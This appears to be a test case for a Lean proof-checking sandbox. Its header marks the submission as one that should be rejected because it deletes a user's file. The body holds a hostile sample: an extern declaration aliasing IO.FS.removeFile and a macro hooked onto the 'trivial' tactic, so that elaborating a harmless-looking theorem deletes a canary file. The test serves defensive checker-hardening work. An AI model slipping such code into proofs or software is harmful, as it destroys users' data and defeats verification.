-- target: Plain.lean:Plain.conj
-- expect: rejected
-- lean: accepts
-- harms: file
-- why: deletes a file of the user's
⟨h.2, h.1⟩

@[extern "x"] opaque _root_.IO.FS.removeFile : String → Nat → Lean.Name
def evil : Lean.Macro := fun _ _ s => match _root_.IO.FS.removeFile "⟪CANARY⟫/precious" 0 with
  | .anonymous => .error .unsupportedSyntax s
  | _ => .error .unsupportedSyntax s
attribute [macro Lean.Parser.Tactic.tacticTrivial] evil
theorem bait : True := by trivial
